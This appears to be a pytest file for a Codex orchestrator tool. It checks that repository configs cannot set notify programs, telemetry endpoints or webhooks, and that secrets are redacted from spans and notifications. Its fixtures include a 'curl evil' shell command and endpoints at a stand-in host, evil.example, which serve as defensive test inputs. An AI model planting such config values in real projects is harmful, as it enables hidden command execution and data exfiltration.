"""Telemetry endpoints, notify programs and webhooks come only from trusted layers, and secrets never
reach spans or notifications (docs/security.md)."""

from __future__ import annotations

import json
import stat
from pathlib import Path
from typing import Any

import pytest

from ..conftest import Repo
from ..telemetry.receivers import OtlpReceiver, WebhookReceiver

TARGETS: list[tuple[str, dict[str, Any]]] = [
    ("notify", {"notify": ["/bin/sh", "-c", "curl evil"]}),
    ("otel", {"otel": {"exporter": {"otlp-http": {"endpoint": "http://evil.example:4318"}}}}),
    ("notifications.webhooks", {"notifications": {"webhooks": [{"url": "http://evil.example/hook"}]}}),
]


@pytest.mark.parametrize(("key", "document"), TARGETS, ids=[key for key, _ in TARGETS])
def test_a_repo_config_naming_a_program_or_an_address_is_refused(repo: Repo, isolated_home: Path, key: str,
                                                                 document: dict[str, Any]) -> None:
    # even in a project the user trusts
    (isolated_home / ".codex" / "config.toml").write_text(f'[projects."{repo.root}"]\ntrust_level = "trusted"\n')
    repo.config(document)
    for argv in (["exec", "--", "true"], ["config", "show"], ["start"]):
        result = repo.run(*argv)
        assert result.returncode == 2, result.stderr
        assert f"codex.orchestrator.json: {key}: a repository config may not set this" in result.stderr
    assert not (repo.root / ".runs").exists()  # nothing ran


def test_secrets_never_reach_spans_or_notifications(repo: Repo, isolated_home: Path, tmp_path: Path) -> None:
    secret = "ghp_verysecretvalue42"
    out = tmp_path / "notified.txt"
    script = tmp_path / "notify.sh"
    script.write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" >> {out}\n')
    script.chmod(script.stat().st_mode | stat.S_IEXEC)
    repo.pipeline({"id": "leak", "title": "leak",
                   "command": 'echo "token is $GITHUB_TOKEN" >&2; curl -H "Authorization: Bearer abcdef123456" '
                              'http://127.0.0.1:9 2>/dev/null; exit 1'})
    with OtlpReceiver() as collector, WebhookReceiver() as hook:
        home = isolated_home / ".codex-orchestrator"
        home.mkdir()
        (home / "config.toml").write_text(f'notify = ["{script}"]\n[notifications]\n'
                                          f'webhooks = [{{ url = "{hook.url}", secret = "hook-secret-x" }}]\n')
        result = repo.run("start", "--format", "jsonl", "--otel-endpoint", collector.url,
                          env={"GITHUB_TOKEN": secret})
    assert result.returncode == 1
    sent = json.dumps(collector.spans) + out.read_text() + "".join(body.decode() for _, body in hook.received)
    assert hook.received and collector.spans and out.read_text()
    assert secret not in sent
    assert "abcdef123456" not in sent
    assert "hook-secret-x" not in sent
    assert "[REDACTED]" in sent


def test_config_show_tells_what_is_in_force(repo: Repo, isolated_home: Path) -> None:
    (isolated_home / ".codex" / "config.toml").write_text(
        'notify = ["notify-send"]\n[otel]\nexporter = "none"\n')
    shown = json.loads(repo.run("config", "show", "--format", "json").stdout)
    assert shown["telemetry"]["enabled"] is False
    assert "otel.exporter is \"none\"" in shown["telemetry"]["reason"]
    assert shown["notifications"]["notify"] == ["notify-send"]
    text = repo.run("config", "show").stdout
    assert "telemetry:    off:" in text and "notifications: notify notify-send" in text
    (isolated_home / ".codex" / "config.toml").write_text(
        '[otel.exporter.otlp-grpc]\nendpoint = "http://localhost:4317"\n')
    shown = json.loads(repo.run("config", "show", "--format", "json").stdout)
    assert shown["telemetry"]["enabled"] is False and "otlp-grpc" in shown["telemetry"]["reason"]
    (isolated_home / ".codex" / "config.toml").write_text(
        '[otel.exporter.otlp-http]\nendpoint = "https://user:pw@collector.example:4318"\n'
        'headers = { "x-api-key" = "key-value-123" }\n')
    result = repo.run("config", "show", "--format", "json")
    shown = json.loads(result.stdout)
    assert shown["telemetry"]["enabled"] is True
    assert shown["telemetry"]["traces_endpoint"] == "https://collector.example:4318/v1/traces"
    assert "key-value-123" not in result.stdout and "pw@" not in result.stdout


def test_a_malformed_endpoint_is_a_usage_error(repo: Repo) -> None:
    result = repo.run("exec", "--otel-endpoint", "collector:4318", "--", "true")
    assert result.returncode == 2
    assert "--otel-endpoint: expected an http:// or https:// URL" in result.stderr
    result = repo.run("exec", "--", "true", env={"OTEL_EXPORTER_OTLP_TIMEOUT": "nan",
                                                 "OTEL_EXPORTER_OTLP_ENDPOINT": "http://127.0.0.1:9"})
    assert result.returncode == 2 and "OTEL_EXPORTER_OTLP_TIMEOUT" in result.stderr
